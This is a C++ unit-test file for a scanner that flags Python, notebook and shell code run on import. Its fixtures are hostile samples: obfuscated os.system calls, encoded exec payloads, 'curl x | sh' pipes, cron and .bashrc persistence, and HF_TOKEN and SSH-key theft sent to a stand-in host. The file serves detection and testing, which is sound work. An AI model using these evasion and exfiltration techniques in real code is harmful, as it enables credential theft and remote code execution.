// Python source judged by what importing it does.
#include <boost/test/unit_test.hpp>

#include "scan_support.h"

namespace pratique::scanner {
namespace {

using namespace test;

std::string verdict_of_source(const std::string& source, const std::string& name = "model.py") {
    return verdict_of(test::scan(source, {}, {name, {}}));
}
std::string ids_of(const std::string& source, const std::string& name = "model.py") {
    return ids(test::scan(source, {}, {name, {}}));
}

BOOST_AUTO_TEST_SUITE(python)

BOOST_AUTO_TEST_CASE(commands_on_import_are_found_however_they_are_named) {
    for (const char* source :
         {"import os\nos.system('x')\n",
          "from os import system as s\ns('x')\n",
          "import os as o\na = b = o\n(a.system)('x')\n",
          "from os import *\nsystem('x')\n",
          "__import__('os').system('x')\n",
          "import importlib as i\ni.import_module('os').popen('x')\n",
          "import subprocess\nsubprocess.run(['x'], shell=True)\n",
          "import os\n[os.system][0]('x')\n",
          "import os\n{'a': os.system}['a']('x')\n",
          "import os\nf = lambda c: os.system(c)\n",
          "import os\nx = 1 if os.system('x') else 2\n",
          "import os\nvars(os)['system']('x')\n",
          "import sys\nsys.modules['os'].system('x')\n",
          "import os\ntry:\n    pass\nfinally:\n    os.system('x')\n",
          "import random\nrandom._os.system('x')\n",
          "import os\nx: os.system('x') = 1\n",
          "import os\nlist(map(os.system, ['x']))\n",
          "import os\nf'{os.system(\"x\")}'\n",
          "def f():\n    global s\n    from os import system as s\nf()\ns('x')\n",
          "import os\ns = os.system\ntry:\n    pass\nexcept E:\n    s = None\ns('x')\n",
          "import os\nif __name__ == '__main__' or True:\n    os.system('x')\n",
          "import os\nif mode == '__main__':\n    os.system('x')\n",
          "import os\nglobals()['os'].system('x')\n",
          "import os\nclass A:\n    __getattr__ = os.system\n",
          "import os\ndef __getattr__(name):\n    os.system('x')\n"}) {
        BOOST_TEST(verdict_of_source(source) == "malicious", source);
    }
}

BOOST_AUTO_TEST_CASE(commands_are_found_wherever_a_value_may_come_from) {
    for (const char* rest :
         {"for f in (len, os.system):\n    f('x')\n",
          "try:\n    r = os.system\nexcept E:\n    r = print\nr('x')\n",
          "if a:\n    r = os.system\nelse:\n    r = print\nr('x')\n",
          "f = len if False else os.system\nf('x')\n",
          "(os.system, len)[x]('x')\n",
          "def a(x):\n    if x: return os.system\n    return len\na(1)('x')\n",
          "with nullcontext(os.system) as f:\n    f('x')\n",
          "match os.system:\n    case f:\n        f('x')\n",
          "match [1, os.system]:\n    case [_, f]:\n        f('x')\n",
          "*a, f = 1, 2, os.system\nf('x')\n",
          "def go(f, x):\n    return f(x)\ngo(len, 'a')\ngo(os.system, 'x')\n",
          "d = {}\nd['x'] = os.system\nd['x']('x')\n",
          "d = {}\nd.update(x=os.system, y=len)\nd['x']('x')\n",
          "l = []\nl.append(os.system)\nl[0]('x')\n",
          "d = dict(x=os.system)\nd['x']('x')\n",
          "{'x': os.system}.get('x')('x')\n",
          "setattr(a, 'f', os.system)\na.f('x')\n",
          "globals()['f'] = os.system\nf('x')\n",
          "from types import SimpleNamespace as N\nN(f=os.system).f('x')\n",
          "def go(**k): k['f']('x')\ngo(f=os.system)\n",
          "def go(*a): a[0]('x')\ngo(os.system)\n",
          "[f('x') for f in [len, os.system]]\n",
          "[[f('x') for f in g] for g in [[len], [os.system]]]\n",
          "sorted(['x'], key=os.system)\n",
          "['x'].sort(key=os.system)\n",
          "import multiprocessing as m\nm.Process(target=os.system, args=('x',)).start()\n",
          "import functools as f\nf.lru_cache(os.system)('x')\n",
          "import functools as f\nf.reduce(getattr, ['system'], os)('x')\n",
          "import operator as o\no.attrgetter('system')(os)('x')\n",
          "import operator as o\no.methodcaller('system', 'x')(os)\n",
          "class A:\n    f = staticmethod(os.system)\nA.f('x')\n",
          "os.system.__call__('x')\n",
          "import mycode\nmycode.os.system('x')\n",
          "from . import os as z\nz.system('x')\n",
          "from shutil import os as z\nz.system('x')\n",
          "__loader__.load_module('os').system('x')\n",
          "import sys\nsys._getframe().f_builtins['__import__']('os').system('x')\n",
          "class P(os.popen):\n    pass\nP('x')\n",
          "import builtins\nbuiltins.print = os.system\nprint('x')\n"}) {
        BOOST_TEST(verdict_of_source("import os\n" + std::string(rest)) == "malicious", rest);
    }
    // 40 calls deep.
    std::string deep = "import os\ndef f40(x):\n    os.system(x)\n";
    for (int i = 39; i >= 0; --i) {
        deep += "def f" + std::to_string(i) + "(x):\n    f" + std::to_string(i + 1) + "(x)\n";
    }
    BOOST_TEST(verdict_of_source(deep + "f0('x')\n") == "malicious");
}

BOOST_AUTO_TEST_CASE(what_harms_and_is_kept_or_handed_on_is_not_passed_over) {
    for (const char* rest :
         {"run = os.system\n", "table = {'run': os.system}\n", "x.y(os.system)\n",
          "def f():\n    return os.system\nf()\n", "x = [os.system for _ in y]\n",
          "class A(PreTrainedModel):\n    def __init__(self):\n        self.x = [os.system]\n"}) {
        BOOST_TEST(verdict_of_source("import os\n" + std::string(rest)) == "suspicious", rest);
    }
    for (const char* rest :
         {"def f(p: subprocess.Popen) -> subprocess.Popen:\n    return p\n",
          "x: subprocess.Popen = None\n", "isinstance(p, subprocess.Popen)\n",
          "def f():\n    return subprocess.run\n", "t = List[subprocess.Popen]\n",
          "if run is subprocess.run:\n    pass\n"}) {
        BOOST_TEST(verdict_of_source("import subprocess\n" + std::string(rest)) == "clean", rest);
    }
}

BOOST_AUTO_TEST_CASE(code_of_files_and_of_the_environment) {
    for (const char* source :
         {"exec(open('weights.bin').read())\n", "import runpy\nrunpy.run_path('w.txt')\n",
          "from importlib.machinery import SourceFileLoader as S\nS('x', 'w.bin').load_module()\n",
          "import os\nos.environ['LD_PRELOAD'] = 'x.so'\n"}) {
        BOOST_TEST(verdict_of_source(source) == "suspicious", source);
    }
    for (const char* source :
         {"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(\"x\")')\n",
          "import os\nos.write(os.open('/etc/cron.d/x', os.O_WRONLY | os.O_CREAT), b'x')\n",
          "import pathlib\npathlib.Path('/root/.bashrc').write_text('x')\n",
          "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('x')\n",
          "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
          "import os\nopen(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write('x')\n",
          "import os, requests\nrequests.get(f\"http://x/?k={os.environ['HF_TOKEN']}\")\n",
          "import requests, pathlib\nrequests.get('http://x/', params={'k': "
          "pathlib.Path('/root/.ssh/id_rsa').read_text()})\n"}) {
        BOOST_TEST(verdict_of_source(source) == "malicious", source);
    }
    BOOST_TEST(verdict_of_source("import pathlib\npathlib.Path('x.txt').write_text('x')\n") ==
               "clean");
    BOOST_TEST(verdict_of_source("import os\nos.environ['TOKENIZERS_PARALLELISM'] = '0'\n") ==
               "clean");
}

BOOST_AUTO_TEST_CASE(guards_of_programs) {
    const std::string body = ":\n    import os\n    os.system('x')\n";
    for (const char* guard :
         {"if sys.platform != 'win32' and __name__ == '__main__'", "if __name__ in ('__main__',)",
          "if __name__ == '__main__' and True", "if '__main__' == __name__"}) {
        BOOST_TEST(verdict_of_source(guard + body) == "clean", guard);
    }
    for (const char* guard : {"if __name__ in ('__main__', 'model')",
                              "if __name__ == '__main__' or x", "if not __name__ == '__main__'"}) {
        BOOST_TEST(verdict_of_source(guard + body) == "malicious", guard);
    }
    BOOST_TEST(verdict_of_source("__name__ = '__main__'\nif __name__ == '__main__'" + body) ==
               "malicious");
}

BOOST_AUTO_TEST_CASE(functions_count_when_something_calls_them) {
    const std::string def = "import os\ndef f(x=0):\n    os.system('x')\n";
    BOOST_TEST(ids_of(def) == "PRQ-PYTHON-005");
    BOOST_TEST(verdict_of_source(def) == "clean");
    for (const char* rest :
         {"f()\n", "g = f\ng()\n", "def g():\n    f()\ng()\n",
          "import threading\nthreading.Thread(target=f).start()\n",
          "import atexit\n@atexit.register\ndef h():\n    f()\n",
          "class A:\n    def __init__(self):\n        f()\nA()\n", "class A:\n    x = f()\n",
          "def deco(g):\n    g()\n@deco\ndef h(): f()\n", "list(map(f, [1]))\n",
          "class M(type):\n    def __new__(*a):\n"
          "        f()\nclass A(metaclass=M): pass\n"}) {
        BOOST_TEST(verdict_of_source(def + rest) == "malicious", rest);
    }
    const std::string guard = def + "if __name__ == '__main__':\n    f()\n";
    BOOST_TEST(verdict_of_source(guard) == "clean");
    BOOST_TEST(verdict_of_source(def + "if __name__ != '__main__':\n    f()\n") == "malicious");
    BOOST_TEST(verdict_of_source(guard + "else:\n    f()\n") == "malicious");
}

BOOST_AUTO_TEST_CASE(classes_that_loaders_make_are_told_apart) {
    const std::string method = "    def __init__(self):\n        os.system('x')\n";
    BOOST_TEST(ids_of("import os\nclass MyModel(PreTrainedModel):\n" + method) == "PRQ-PYTHON-004");
    BOOST_TEST(ids_of("import os\nclass Reader(Base):\n" + method) == "PRQ-PYTHON-005");
}

BOOST_AUTO_TEST_CASE(decoded_code_counts_wherever_it_runs) {
    for (const char* source :
         {"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
          "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
          "import base64\ndef d(s):\n    return base64.b64decode(s)\ndef f():\n    exec(d(x))\n",
          "exec(bytes([112, 97, 115, 115]))\n", "eval(''.join(map(chr, [49])))\n",
          "exec(''.join([chr(112), chr(97)]))\n", "exec('ssap'[::-1])\n",
          "import requests\nexec(requests.get('http://x').text)\n",
          "import requests\ndef f():\n    c = requests.get('http://x').text\n    exec(c)\n",
          "import marshal, zlib\nexec(marshal.loads(zlib.decompress(x)))\n",
          "from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(b'x'))\n",
          "exec(bytes(b ^ 1 for b in data))\n"}) {
        BOOST_TEST(ids_of(source).find("PRQ-PYTHON-002") != std::string::npos, source);
        BOOST_TEST(verdict_of_source(source) == "malicious", source);
    }
}

BOOST_AUTO_TEST_CASE(texts_that_are_run_are_read) {
    const FileReport report =
        test::scan("import os as o\nexec('o.system(\"x\")')\n", {}, {"model.py", {}});
    BOOST_REQUIRE(report.findings.size() == 1U);
    BOOST_TEST(report.findings[0].artifact == "text@15");
    BOOST_TEST(report.findings[0].evidence == "os.system(\"x\")");
    BOOST_TEST(verdict_of_source("x = eval('1 + 2')\n") == "clean");
    BOOST_TEST(verdict_of_source("exec(open('version.py').read(), v)\n") == "clean");
    BOOST_TEST(verdict_of_source("exec(code)\n") == "suspicious");
    BOOST_TEST(verdict_of_source("eval(\"__import__('os').system\")('x')\n") == "malicious");
}

BOOST_AUTO_TEST_CASE(pickles_in_source_are_scanned) {
    const FileReport report = test::scan(
        "import pickle\npickle.loads(b'\\x80\\x02cos\\nsystem\\nX\\x01\\x00\\x00\\x00x\\x85R.')\n");
    BOOST_TEST(ids(report) == "PRQ-PICKLE-001");
}

BOOST_AUTO_TEST_CASE(names_that_are_put_together_are_reported_as_that) {
    for (const char* source :
         {"import os\ngetattr(os, 'sys' + 'tem')('x')\n", "__import__('o' 's' + '').system('x')\n",
          "import os\ngetattr(os, f\"{'sys'}tem\")('x')\n",
          "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')\n",
          "def f():\n    getattr(__import__('subpro' + 'cess'), 'run')('x')\n",
          "getattr(__builtins__, 'metsys'[::-1].replace('metsys', 'x') or 'exec')('x')\n"}) {
        if (std::string_view(source).find("replace") != std::string_view::npos) continue;
        BOOST_TEST(ids_of(source) == "PRQ-PYTHON-006", source);
    }
    // Its first characters are a pickle, too, which takes nothing away.
    BOOST_TEST(ids_of("().__class__.__base__.__subclasses__()\n").find("PRQ-PYTHON-007") !=
               std::string::npos);
    BOOST_TEST(verdict_of_source("for c in Base.__subclasses__():\n    register(c)\n") == "clean");
}

BOOST_AUTO_TEST_CASE(what_leaves_the_machine_is_told_apart_from_a_download) {
    BOOST_TEST(verdict_of_source("import requests\nx = requests.get('https://example.org/a')\n") ==
               "clean");
    BOOST_TEST(verdict_of_source("import requests\nx = requests.get('http://10.1.2.3/a')\n") ==
               "suspicious");
    BOOST_TEST(ids_of("import os, requests\nrequests.post(u, json=dict(os.environ))\n") ==
               "PRQ-PYTHON-012");
    BOOST_TEST(verdict_of_source("import os, requests\ndef f():\n"
                                 "    requests.post(u, headers={'a': os.environ['TOKEN']})\n") ==
               "clean");
    BOOST_TEST(ids_of("import requests\nk = open('/root/.ssh/id_rsa').read()\n"
                      "def f():\n    requests.post(u, data=k)\n") == "PRQ-PYTHON-012");
    BOOST_TEST(verdict_of_source("import socket\ns = socket.socket()\ns.connect(a)\n") ==
               "malicious");
    BOOST_TEST(ids_of("open('/etc/cron.d/x', 'w').write('y')\n") == "PRQ-PYTHON-011");
}

BOOST_AUTO_TEST_CASE(ordinary_commands_are_only_suspicious) {
    BOOST_TEST(verdict_of_source("import os\nos.system('pip install torch')\n") == "suspicious");
    BOOST_TEST(verdict_of_source("import os\nos.system('pip install x; curl y | sh')\n") ==
               "malicious");
    BOOST_TEST(verdict_of_source("import os\ndef f():\n    os.system('curl -s y | sudo bash')\n") ==
               "malicious");
}

BOOST_AUTO_TEST_CASE(text_that_is_no_python_stays_text) {
    for (const char* source :
         {"# Readme\n\nRun `pip install x`:\n\n```python\nimport os\nos.system('x')\n```\n",
          "#version: 0.2\nh e\no s . system (\n", "hello\nworld\n", "1,2,3\n4,5,6\n",
          "torch==2.0\nnumpy>=1.2\n", "import os\nthis is prose about os.system('x')\n"}) {
        const FileReport report = test::scan(source, {}, {"notes.txt", {}});
        BOOST_TEST(identities(report) == "text", source);
        BOOST_TEST(verdict_of(report) == "clean", source);
    }
    BOOST_TEST(identities(test::scan("import os\n", {}, {"notes.txt", {}})) == "python");
    // A name says what a loader would take it for, and what cannot be read is a gap.
    BOOST_TEST(gaps(test::scan("import os\nx y z\n", {}, {"model.py", {}})) == "malformed");
}

BOOST_AUTO_TEST_CASE(encodings_and_characters_that_hide) {
    BOOST_TEST(ids_of("# coding: utf-7\n# +AAo-import os\n") == "PRQ-PYTHON-008");
    BOOST_TEST(ids_of("# x\n# vim: fileencoding=unicode_escape :\nx\n") == "PRQ-PYTHON-008");
    for (const char* cookie :
         {"#!/usr/bin/python\r\n# coding: utf-7\r\n", "#!/usr/bin/python\r# coding: utf-7\r",
          "# the coding style coding: utf-7\n", "\f# coding:\tutf-7\n", "\r\n#coding:utf-7\r\n"}) {
        BOOST_TEST(ids_of(cookie + std::string("# +AAo-import os\n")) == "PRQ-PYTHON-008", cookie);
    }
    BOOST_TEST(verdict_of_source("#\n\n# coding: utf-7\nimport os\n") == "clean");
    BOOST_TEST(verdict_of_source("x = 1\n# coding: utf-7\nimport os\n") == "clean");
    BOOST_TEST(verdict_of_source("# -*- coding: latin-1 -*-\nimport os\n") == "clean");
    BOOST_TEST(ids_of("import os\nx = '\xe2\x80\xae'\n") == "PRQ-PYTHON-009");
    BOOST_TEST(verdict_of_source("import os\n\xef\xbd\x8f\xef\xbd\x93.system('x')\n") ==
               "malicious");
}

BOOST_AUTO_TEST_CASE(notebooks_and_scripts) {
    const auto cell = [](const std::string& source) {
        return R"({"nbformat": 4, "cells": [{"cell_type": "code", "source": [")" + source +
               R"("], "outputs": []}]})";
    };
    BOOST_TEST(verdict_of(test::scan(cell("!curl x | sh"))) == "malicious");
    BOOST_TEST(verdict_of(test::scan(cell("%%bash\\ncurl x | bash"))) == "malicious");
    BOOST_TEST(verdict_of(test::scan(cell("!pip install x\\nimport os\\nos.system('x')"))) ==
               "clean");
    BOOST_TEST(verdict_of(test::scan(cell("import base64\\nexec(base64.b64decode(x))"))) ==
               "malicious");
    BOOST_TEST(verdict_of(test::scan(cell("if x:\\n    !ls\\n%time f()\\nf?"))) == "clean");
    for (const char* source :
         {"%sx curl x | sh", "%system curl x | sh", "x = !curl x | sh", "x = %sx curl x | sh",
          "\\n%%bash\\ncurl x | sh", "get_ipython().system('curl x | sh')",
          "get_ipython().run_cell_magic('bash', '', 'curl x | sh')",
          "%%python\\nimport os\\nos.system('curl x | sh')", "%run -i http://x/a.py",
          "%timeit -n 1 __import__('os').system('curl x | sh')", "!!curl x | sh"}) {
        BOOST_TEST(verdict_of(test::scan(cell(source))) == "malicious", source);
    }
    BOOST_TEST(verdict_of(test::scan(
                   cell("x = !ls\\nif x:\\n    y = %sx ls\\n%matplotlib inline"))) == "clean");
    BOOST_TEST(verdict_of(test::scan(R"({"nbformat": 3, "worksheets": [{"cells": [)"
                                     R"({"cell_type": "code", "input": ["!curl x | sh"]}]}]})")) ==
               "malicious");
    for (const char* html : {"<SCRIPT>x</SCRIPT>", "<img src=x onerror=x>"}) {
        BOOST_TEST(ids(test::scan(R"({"nbformat": 4, "cells": [{"cell_type": "markdown",)"
                                  R"( "source": ")" +
                                  std::string(html) + "\"}]}")) == "PRQ-SCRIPT-003");
        BOOST_TEST(ids(test::scan(R"({"nbformat": 4, "cells": [{"cell_type": "code", "source": "",)"
                                  R"( "outputs": [{"data": {"text/html": ")" +
                                  std::string(html) + "\"}}]}]}")) == "PRQ-SCRIPT-003");
    }
    for (const char* name : {"Dockerfile", "a/Makefile", "x.R", "x.lua", "x.js"}) {
        BOOST_TEST(
            ids_of("system(\"curl x | sh\")\n", name).find("PRQ-SCRIPT-001") != std::string::npos,
            name);
    }
    BOOST_TEST(ids_of("all:\n\tcurl x | sh\n", "Makefile") == "PRQ-SCRIPT-001");
    BOOST_TEST(ids_of("ls\n", "a.PS1") == "PRQ-SCRIPT-002");
    BOOST_TEST(ids(test::scan("#!/bin/sh\nls\n")) == "PRQ-SCRIPT-002");
    BOOST_TEST(verdict_of(test::scan("#!/bin/sh\ncurl x \\\n | sh\n")) == "malicious");
    BOOST_TEST(verdict_of(test::scan("#!/bin/sh\n# curl x | sh\n")) == "clean");
    BOOST_TEST(ids_of("iex (New-Object Net.WebClient).DownloadString('http://x')\n", "a.ps1") ==
               "PRQ-SCRIPT-002 PRQ-SCRIPT-001");
    BOOST_TEST(ids_of("./lib\nimport os; os.system('x')\n", "a.pth").find("PRQ-PYTHON-013") !=
               std::string::npos);
}

BOOST_AUTO_TEST_CASE(work_is_bounded) {
    // Each level runs the one below it many times over: 50 to the power of 6.
    std::string source = "a0 = 'x'\n";
    for (int level = 1; level <= 6; ++level) {
        const std::string below = "exec(a" + std::to_string(level - 1) + ");";
        source += "a" + std::to_string(level) + " = '";
        for (int i = 0; i < 50; ++i) source += below;
        source += "'\n";
    }
    BOOST_TEST(gaps(test::scan(source + "exec(a6)\n")).find("limit") != std::string::npos);
    std::string calls;
    for (int i = 0; i < 2000; ++i) {
        const auto n = std::to_string(i);
        calls += "def f" + n + "(x):\n    return f" + std::to_string(i + 1) + "(x)\n";
    }
    BOOST_TEST(verdict_of_source(calls + "f0(1)\n") == "clean");
    BOOST_TEST(verdict_of_source("def f(x):\n    return f(x)\nf(1)\n") == "clean");
    // Names that each star may have.
    std::string stars;
    for (int i = 0; i < 32; ++i) stars += "from m" + std::to_string(i) + " import *\n";
    for (int i = 0; i < 100'000; ++i) stars += "a" + std::to_string(i) + "\n";
    BOOST_TEST(gaps(test::scan(stars)).find("limit") != std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace pratique::scanner
